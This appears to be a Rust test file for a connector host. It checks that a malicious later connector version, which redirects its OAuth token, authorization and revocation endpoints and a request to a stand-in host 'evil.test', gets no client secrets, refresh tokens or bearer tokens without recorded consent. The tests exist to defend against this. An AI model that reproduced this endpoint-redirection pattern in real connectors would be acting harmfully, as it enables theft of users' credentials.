//! A later version of a connector names another token endpoint and one more
//! origin. Before there was a record of what somebody had agreed to, the next
//! call posted the refresh token and the client secret there, and then the
//! bearer.

use connector_host::connections::App;
use connector_host::consent::ConsentRefusal;
use connector_host::contract::{Authorization, Step};
use connector_host::driver::DriveError;
use connector_host::egress::{EgressError, Refusal};
use connector_host::{Class, Error, Host, Revocation};
use serde_json::json;

use crate::bystander::beside;
use crate::stage::{component, connected, harmless, host_of, manifest, must_be, stolen};
use crate::support::authorization::{LIFETIME, World, code_grant, connect};
use crate::support::call::exchange;
use crate::support::scripted::{self, Act};

const EVIL: &str = "https://evil.test";

/// The manifest of a version that wants to be sent all.
fn greedy_manifest() -> Vec<u8> {
    manifest(|manifest| {
        manifest["version"] = json!("1.2.4");
        let origin =
            json!({ "origin": EVIL, "purpose": "Ads.", "marks": ["sign-in", "credential"] });
        manifest["origins"].as_array_mut().unwrap().push(origin);
        let server = json!({
            "name": "Example",
            "authorization_endpoint": format!("{EVIL}/authorize"),
            "token_endpoint": format!("{EVIL}/token"),
            "revocation_endpoint": format!("{EVIL}/revoke"),
        });
        manifest["auth_methods"][0]["endpoints"] = json!([server]);
    })
}

fn greedy_authorization() -> Authorization {
    let Authorization::AuthorizationCode(mut code) = code_grant() else {
        unreachable!("it is a code grant")
    };
    code.authorization_endpoint = format!("{EVIL}/authorize");
    code.server.token_endpoint = format!("{EVIL}/token");
    code.server.revocation_endpoint = Some(format!("{EVIL}/revoke"));
    Authorization::AuthorizationCode(code)
}

fn greedy() -> Vec<u8> {
    component(&greedy_manifest(), &greedy_authorization())
}

async fn victim(world: &World) -> Host {
    let host = host_of(world).build().unwrap();
    host.add(&harmless()).await.unwrap();
    connected(&host, "work").await;
    host
}

#[tokio::test(flavor = "multi_thread")]
async fn it_is_not_added_without_somebody_who_accepts_what_it_wants_more() {
    let world = World::new().await;
    let host = victim(&world).await;
    let refused = beside(host.add(&greedy())).await.unwrap_err();
    assert_eq!(refused.class(), Class::Consent);
    let Error::WantsMore(more) = refused else {
        panic!("{refused}")
    };
    assert_eq!(more.connections, ["work"]);
    let told: Vec<_> = more.difference.iter().map(ToString::to_string).collect();
    assert_eq!(
        told,
        [
            "sign in by `own-app` at Example (authorization https://evil.test/authorize, token https://evil.test/token, revocation https://evil.test/revoke)",
            "send the client secret, authorization codes and refresh tokens to https://evil.test",
            "send the access token to https://evil.test",
            "send requests to https://evil.test",
        ]
    );
    world.clock.advance(LIFETIME);
    host.invoke("notes", "list-notes").run().await.unwrap();
    assert!(stolen(&world).is_empty());
    // The next process has the old one as well.
    let version = async |host: Host| {
        host.connector("notes")
            .await
            .unwrap()
            .manifest()
            .version
            .clone()
    };
    assert_eq!(version(host_of(&world).build().unwrap()).await, "1.2.3");
}

#[tokio::test(flavor = "multi_thread")]
async fn nor_does_one_that_comes_another_way_get_anything_of_the_connection() {
    let world = World::new().await;
    drop(victim(&world).await);
    // As with --component, or with a file that was swapped.
    let host = host_of(&world).build().unwrap();
    host.load(&greedy()).await.unwrap();
    world.clock.advance(LIFETIME);
    let refused = beside(host.invoke("notes", "list-notes").run())
        .await
        .unwrap_err();
    assert_eq!(refused.class(), Class::Consent, "{refused}");
    let refused = host.test("work").await.unwrap().outcome.unwrap_err();
    assert_eq!(refused.class(), Class::Consent, "{refused}");
    let refused = host.reconnect("work").start().await.unwrap_err();
    assert_eq!(refused.class(), Class::Consent, "{refused}");
    // The tokens are ended all the same, where they are from.
    let removal = host.remove("work").await.unwrap();
    assert!(
        matches!(removal.revocation, Revocation::Revoked),
        "{removal:?}"
    );
    assert_eq!(world.count("POST /revoke"), 2);
    assert!(stolen(&world).is_empty(), "{:?}", stolen(&world));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bearer_does_not_go_where_only_a_later_version_wants_it() {
    let world = World::new().await;
    drop(victim(&world).await);
    let host = host_of(&world).build().unwrap();
    let mut theft = exchange("GET", "/", 1);
    theft.request.url = format!("{EVIL}/collect");
    let acts = [Act::Step(Step::Send(theft)), Act::Echo];
    let component = scripted::connector_of(&greedy_manifest(), &code_grant(), &acts);
    host.load(&component).await.unwrap();
    let refused = beside(host.invoke("notes", "list-notes").run())
        .await
        .unwrap_err();
    must_be!(
        refused,
        Consent,
        Error::Drive {
            source: DriveError::Egress(EgressError::Refused(Refusal::NotAgreed { .. })),
            ..
        }
    );
    assert!(stolen(&world).is_empty());
}

fn app() -> App {
    App::new("notes", "platform").secret("client_secret", "hush-platform".into())
}

/// The greedy version, which signs in with the operator's app.
fn greedy_for_the_app() -> Vec<u8> {
    let Authorization::AuthorizationCode(mut code) = greedy_authorization() else {
        unreachable!("it is a code grant")
    };
    code.server.client.id = None;
    code.server.client.secret_setting = None;
    component(&greedy_manifest(), &Authorization::AuthorizationCode(code))
}

#[tokio::test(flavor = "multi_thread")]
async fn the_operators_app_goes_to_no_server_that_nobody_has_agreed_to() {
    let world = World::new().await;
    let host = host_of(&world).build().unwrap();
    host.add(&harmless()).await.unwrap();
    host.set_app(app()).await.unwrap();
    let refused = host.add(&greedy_for_the_app()).await.unwrap_err();
    assert!(matches!(refused, Error::WantsMore(_)), "{refused}");

    let host = host_of(&world).build().unwrap();
    host.load(&greedy_for_the_app()).await.unwrap();
    let refused = beside(connect(&host).start()).await.unwrap_err();
    assert_eq!(refused.class(), Class::Consent, "{refused}");
    assert!(stolen(&world).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn nor_to_one_that_it_was_not_set_for() {
    let world = World::new().await;
    // There is no record of what was agreed to for one that came with the process.
    let host = host_of(&world).build().unwrap();
    host.load(&harmless()).await.unwrap();
    host.set_app(app()).await.unwrap();

    let host = host_of(&world).build().unwrap();
    host.load(&greedy_for_the_app()).await.unwrap();
    let refused = beside(connect(&host).start()).await.unwrap_err();
    must_be!(
        refused,
        Consent,
        Error::Consent(ConsentRefusal::AppElsewhere { .. })
    );
    assert!(stolen(&world).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_accepts_it_gets_what_was_shown() {
    let world = World::new().await;
    let host = victim(&world).await;
    let added = beside(host.add_accepting(&greedy())).await.unwrap();
    assert_eq!(added.accepted.unwrap().connections, ["work"]);
    world.clock.advance(LIFETIME);
    host.invoke("notes", "list-notes").run().await.unwrap();
    let arrived: Vec<_> = stolen(&world)
        .into_iter()
        .map(|seen| seen.request)
        .collect();
    assert_eq!(arrived, ["POST /token"]);
    // The same again wants no more, and one that wants less is no question.
    assert!(host.add(&greedy()).await.unwrap().accepted.is_none());
    assert!(
        host.add(&harmless()).await.is_err(),
        "its server is another again"
    );
}
